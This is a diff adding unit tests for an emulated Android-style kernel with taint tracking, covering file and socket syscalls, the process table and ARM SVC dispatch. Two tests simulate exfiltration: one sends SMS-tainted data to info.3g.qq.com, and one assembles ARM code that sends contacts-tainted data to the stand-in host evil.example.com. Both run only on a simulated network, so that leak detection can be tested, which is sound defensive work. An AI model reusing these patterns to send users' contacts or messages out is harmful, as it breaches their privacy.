@@ -1,0 +1,208 @@
+"""Unit tests for the kernel facade: fds, sockets, SVC dispatch."""
+
+import pytest
+
+from repro.common.errors import KernelError
+from repro.common.taint import TAINT_CONTACTS, TAINT_SMS
+from repro.cpu.assembler import assemble
+from repro.emulator import Emulator
+from repro.kernel import Kernel
+from repro.kernel.kernel import O_APPEND, O_CREAT, O_RDONLY, O_TRUNC
+from repro.kernel.process import TASK_LIST_HEAD
+from repro.memory import Memory
+
+
+@pytest.fixture
+def kernel():
+    k = Kernel(Memory())
+    k.spawn_process("com.example.app")
+    return k
+
+
+class TestFileSyscalls:
+    def test_open_write_read_roundtrip(self, kernel):
+        fd = kernel.sys_open("/sdcard/f.txt", O_CREAT)
+        assert kernel.sys_write(fd, b"hello") == 5
+        kernel.sys_close(fd)
+        fd = kernel.sys_open("/sdcard/f.txt", O_RDONLY)
+        chunk, taints = kernel.sys_read(fd, 100)
+        assert chunk == b"hello"
+
+    def test_write_carries_taints_into_file(self, kernel):
+        fd = kernel.sys_open("/sdcard/t.txt", O_CREAT)
+        kernel.sys_write(fd, b"ab", taints=[TAINT_CONTACTS, TAINT_SMS])
+        file = kernel.filesystem.lookup("/sdcard/t.txt")
+        assert file.taint_union() == TAINT_CONTACTS | TAINT_SMS
+
+    def test_append_mode(self, kernel):
+        fd = kernel.sys_open("/sdcard/a.txt", O_CREAT)
+        kernel.sys_write(fd, b"one")
+        kernel.sys_close(fd)
+        fd = kernel.sys_open("/sdcard/a.txt", O_APPEND)
+        kernel.sys_write(fd, b"two")
+        assert kernel.filesystem.read_text("/sdcard/a.txt") == "onetwo"
+
+    def test_truncate(self, kernel):
+        fd = kernel.sys_open("/sdcard/a.txt", O_CREAT)
+        kernel.sys_write(fd, b"payload")
+        kernel.sys_close(fd)
+        fd = kernel.sys_open("/sdcard/a.txt", O_CREAT | O_TRUNC)
+        assert kernel.sys_stat("/sdcard/a.txt")["size"] == 0
+
+    def test_bad_fd(self, kernel):
+        with pytest.raises(KernelError):
+            kernel.sys_write(99, b"x")
+
+    def test_close_invalidates_fd(self, kernel):
+        fd = kernel.sys_open("/sdcard/f", O_CREAT)
+        kernel.sys_close(fd)
+        with pytest.raises(KernelError):
+            kernel.sys_write(fd, b"x")
+
+    def test_taint_length_mismatch_rejected(self, kernel):
+        fd = kernel.sys_open("/sdcard/f", O_CREAT)
+        with pytest.raises(KernelError):
+            kernel.sys_write(fd, b"abc", taints=[TAINT_SMS])
+
+
+class TestSocketSyscalls:
+    def test_connect_send_records_transmission(self, kernel):
+        fd = kernel.sys_socket()
+        kernel.sys_connect(fd, "info.3g.qq.com:80")
+        kernel.sys_send(fd, b"POST /x", taints=[TAINT_SMS] * 7)
+        sent = kernel.network.transmissions_to("info.3g.qq.com")
+        assert len(sent) == 1
+        assert sent[0].payload == b"POST /x"
+        assert sent[0].taint_union == TAINT_SMS
+
+    def test_sendto_without_connect(self, kernel):
+        fd = kernel.sys_socket()
+        kernel.sys_sendto(fd, b"REGISTER", "softphone.comwave.net:5060")
+        assert kernel.network.transmissions_to("comwave")[0].payload == \
+            b"REGISTER"
+
+    def test_send_unconnected_raises(self, kernel):
+        fd = kernel.sys_socket()
+        with pytest.raises(KernelError):
+            kernel.sys_send(fd, b"x")
+
+    def test_recv_queued_response(self, kernel):
+        fd = kernel.sys_socket()
+        kernel.sys_connect(fd, "server:80")
+        kernel.network.queue_response("server:80", b"200 OK")
+        assert kernel.sys_recv(fd, 3) == b"200"
+        assert kernel.sys_recv(fd, 10) == b" OK"
+        assert kernel.sys_recv(fd, 10) == b""
+
+    def test_write_on_socket_fd_sends(self, kernel):
+        fd = kernel.sys_socket()
+        kernel.sys_connect(fd, "host:1")
+        kernel.sys_write(fd, b"data")
+        assert kernel.network.transmissions[0].destination == "host:1"
+
+
+class TestProcessTable:
+    def test_pids_increment(self, kernel):
+        second = kernel.spawn_process("system_server")
+        assert second.pid == kernel.current.pid + 1
+
+    def test_task_structs_in_guest_memory(self, kernel):
+        kernel.spawn_process("system_server")
+        memory = kernel.memory
+        head = memory.read_u32(TASK_LIST_HEAD)
+        assert head != 0
+        assert memory.read_u32(head) == 1  # pid of first task
+        comm = memory.read_cstring(head + 4).decode()
+        assert comm.startswith("com.example.app"[:15])
+        next_task = memory.read_u32(head + 0x18)
+        assert memory.read_u32(next_task) == 2
+
+    def test_vma_chain_serialised(self, kernel):
+        process = kernel.current
+        process.memory_map.map(0x1000, 0x1000, "libfoo.so",
+                               third_party=True)
+        kernel.sync_tasks_to_guest()
+        memory = kernel.memory
+        head = memory.read_u32(TASK_LIST_HEAD)
+        vma = memory.read_u32(head + 0x14)
+        assert memory.read_u32(vma) == 0x1000
+        assert memory.read_u32(vma + 4) == 0x2000
+        name = memory.read_cstring(memory.read_u32(vma + 8)).decode()
+        assert name == "libfoo.so"
+        assert memory.read_u32(vma + 0xC) & 1  # third-party flag
+
+
+class TestSvcTrapPath:
+    def _run(self, source, kernel, args=()):
+        emu = Emulator(memory=kernel.memory)
+        program = assemble(source, base=0x10000)
+        emu.load(0x10000, program.code)
+        emu.cpu.sp = 0x0800_0000
+        emu.syscall_handler = kernel.handle_svc
+        return emu.call(program.entry("main"), args=args), emu
+
+    def test_getpid_via_svc(self, kernel):
+        result, _ = self._run("""
+        main:
+            mov r7, #20
+            svc #0
+            bx lr
+        """, kernel)
+        assert result == kernel.current.pid
+
+    def test_open_write_via_svc(self, kernel):
+        source = """
+        main:
+            push {r4, lr}
+            ldr r0, =path
+            mov r1, #0x40        ; O_CREAT
+            mov r7, #5           ; open
+            svc #0
+            mov r4, r0
+            ldr r1, =payload
+            mov r2, #5
+            mov r7, #4           ; write
+            svc #0
+            mov r0, r4
+            mov r7, #6           ; close
+            svc #0
+            mov r0, #0
+            pop {r4, pc}
+        path:
+            .asciz "/sdcard/svc.txt"
+        payload:
+            .asciz "hello"
+        """
+        self._run(source, kernel)
+        assert kernel.filesystem.read_text("/sdcard/svc.txt") == "hello"
+
+    def test_sendto_via_svc_uses_taint_provider(self, kernel):
+        kernel.taint_provider = lambda addr, length: [TAINT_CONTACTS] * length
+        source = """
+        main:
+            push {r4, lr}
+            mov r0, #2
+            mov r1, #2
+            mov r7, #281         ; socket
+            svc #0
+            ldr r1, =payload
+            mov r2, #4
+            mov r3, #0
+            ldr r4, =dest        ; arg4 in r4 per the EABI trap convention
+            mov r7, #290         ; sendto
+            svc #0
+            mov r0, #0
+            pop {r4, pc}
+        payload:
+            .asciz "data"
+        dest:
+            .asciz "evil.example.com:80"
+        """
+        self._run(source, kernel)
+        sent = kernel.network.transmissions_to("evil.example.com")
+        assert len(sent) == 1
+        assert sent[0].taint_union == TAINT_CONTACTS
+
+    def test_unknown_syscall_raises(self, kernel):
+        with pytest.raises(KernelError):
+            self._run("main:\n mov r7, #999\n svc #0\n bx lr", kernel)
